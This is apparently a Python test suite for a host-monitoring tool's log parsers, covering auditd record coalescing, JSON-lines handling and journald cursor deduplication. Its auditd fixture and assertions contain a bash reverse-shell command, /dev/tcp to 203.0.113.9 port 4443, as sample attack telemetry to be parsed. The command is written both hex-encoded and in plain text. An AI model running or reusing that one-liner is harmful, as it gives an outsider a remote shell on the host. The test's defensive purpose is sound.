"""auditd coalescing, JSON lines and journald records."""

import json

from hostwarden.core.chunks import Chunk
from hostwarden.normalize.auditd import AuditdParser, parse_fields
from hostwarden.normalize.base import ParseContext, RawLine
from hostwarden.normalize.journald import JournaldParser
from hostwarden.normalize.jsonl import JsonLinesParser
from hostwarden.normalize.registry import sniff
from hostwarden.pipelines.ingest import ingest_chunks
from hostwarden.store.eventstore import EventStore

EXECVE = """type=SYSCALL msg=audit(1795778020.120:4021): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=5201 pid=5290 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=42 comm="bash" exe="/usr/bin/bash" key="exec"
type=EXECVE msg=audit(1795778020.120:4021): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F3434343320303E2631
type=CWD msg=audit(1795778020.120:4021): cwd="/root"
type=PATH msg=audit(1795778020.120:4021): item=0 name="/usr/bin/bash" inode=1311 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PROCTITLE msg=audit(1795778020.120:4021): proctitle=62617368002D63
type=EOE msg=audit(1795778020.120:4021):
type=USER_LOGIN msg=audit(1795778030.000:4022): pid=777 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'"""


def parse(text):
    lines = [RawLine(i * 1000, t) for i, t in enumerate(text.splitlines())]
    return AuditdParser().parse_batch(lines, ParseContext())


def test_execve_records_coalesce_into_one_event():
    events = parse(EXECVE)
    assert len(events) == 2
    ev = events[0]
    assert ev["process.args"] == ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4443 0>&1"]
    assert ev["process.command_line"] == "bash -c bash -i >& /dev/tcp/203.0.113.9/4443 0>&1"
    assert (ev["process.executable"], ev["process.pid"], ev["process.parent.pid"], ev["user.id"], ev["auid"]) == (
        "/usr/bin/bash", 5290, 5201, "0", "1000")
    assert ev["process.working_directory"] == "/root" and ev["proctitle"] == "bash -c"
    assert (ev["event.action"], ev["event.outcome"], ev["key"], ev["syscall_name"]) == ("executed", "success", "exec", "execve")
    assert ev["a0"] == "bash" and ev["a2"].startswith("bash -i")  # EXECVE argv under Sigma's names
    assert ev["record_types"] == "SYSCALL,EXECVE,CWD,PATH,PROCTITLE,EOE"
    assert ev["event.original"].count("\n") == 5 and ev["log.offset"] == 0


def test_user_space_records():
    ev = parse(EXECVE)[1]
    assert (ev["event.action"], ev["user.name"], ev["source.ip"], ev["event.outcome"], ev["auid"]) == (
        "user_login", "root", "203.0.113.9", "failure", "unset")
    assert ev["event.category"] == ["authentication"]


def test_split_arguments_and_garbage_lines():
    text = ('type=EXECVE msg=audit(1.0:9): argc=2 a0="x" a1_len=6 a1[0]=616263 a1[1]=646566\n'
            "this is not an audit record\n"
            "type=SYSCALL msg=audit(1.0:10): syscall=2 success=no exe=2F746D702F612062 uid=0")
    events = parse(text)
    assert events[0]["process.args"] == ["x", "abcdef"]
    assert "parse_failure" in events[1]["tags"]
    assert events[2]["process.executable"] == "/tmp/a b" and events[2]["event.outcome"] == "failure"


def test_hex_and_quoted_values():
    fields = parse_fields("a=\"quoted value\" b=414243 proctitle=6C73002D6C61 msg='op=x acct=\"bob\" res=success'")
    assert fields == {"a": "quoted value", "b": "414243", "proctitle": "ls -la", "op": "x", "acct": "bob", "res": "success"}


def test_sniffing_picks_auditd_and_journald_over_json():
    assert sniff(EXECVE.splitlines()) == "auditd"
    record = json.dumps({"__REALTIME_TIMESTAMP": "1", "MESSAGE": "x", "__CURSOR": "s=1"})
    assert sniff([record]) == "journald"
    assert sniff(['{"event.kind": "alert"}']) == "json"


def test_json_lines_passthrough_and_hostility():
    p = JsonLinesParser()
    ev = p.parse_line('{"source": {"ip": "1.2.3.4", "port": "22"}, "event.kind": "alert", "@timestamp": "2026-01-01T00:00:00Z", "x": [1]}', ParseContext())
    assert (ev["source.ip"], ev["source.port"], ev["event.kind"], ev["x"]) == ("1.2.3.4", 22, "alert", "[1]")
    for hostile in ["[1,2]", "{", '{"a":' * 100 + "1" + "}" * 100, '{"source.port": 99999999999999999999}',
                    '{"event.original": "forged", "log.offset": 5}', "null", '{"a": NaN}']:
        ev = p.parse_batch([RawLine(0, hostile)], ParseContext())[0]
        assert ev["event.original"] == hostile and ev["log.offset"] == 0


def test_journald_cursor_makes_rereads_idempotent(tmp_path):
    records = [json.dumps({"__REALTIME_TIMESTAMP": str(1700000000000000 + i), "__CURSOR": f"s=abc;i={i}",
                           "SYSLOG_IDENTIFIER": "sshd", "_PID": "7", "_HOSTNAME": "h",
                           "MESSAGE": f"Failed password for root from 203.0.113.{i} port 22 ssh2"}) for i in range(5)]
    data = ("\n".join(records) + "\n").encode()
    with EventStore(tmp_path) as store:
        ingest_chunks(store, [Chunk("journald", 0, data)])
        # journalctl --after-cursor re-sends the last two records at new offsets after a crash
        again = ingest_chunks(store, [Chunk("journald", 0, ("\n".join(records[3:]) + "\n").encode())])
        assert again.stored == 0 and store.count_rows() == 5
        assert store.query("SELECT count(*) FROM events WHERE \"event.action\" = 'ssh_login_failed'")[0][0] == 5
    ev = JournaldParser().parse_line(json.dumps({"__REALTIME_TIMESTAMP": "1", "MESSAGE": list(b"bad \xff bytes")}), ParseContext())
    assert ev["message"] == "bad \ufffd bytes"
